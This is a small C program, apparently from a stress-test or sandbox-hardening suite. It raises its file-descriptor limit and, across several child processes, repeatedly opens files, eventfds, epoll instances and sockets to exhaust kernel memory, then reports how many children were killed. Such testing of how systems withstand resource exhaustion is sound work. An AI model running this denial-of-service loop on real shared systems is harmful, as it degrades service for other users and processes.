// SPDX-License-Identifier: Apache-2.0
//
// Open files, of every kind that costs the kernel memory, until there are no more.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

static void open_all(void) {
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  while (goes_on()) {
    const int made[] = {open("/dev/null", O_RDONLY | O_CLOEXEC), eventfd(0, EFD_CLOEXEC),
                        epoll_create1(EPOLL_CLOEXEC),
                        socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0)};
    if (made[3] < 0) {
      close_range(3, ~0u, 0);
    }
  }
}

int main(int argc, char** argv) {
  begin_attack(argc, argv);
  printf("%u killed\n", in_children(4, open_all));
  return 0;
}
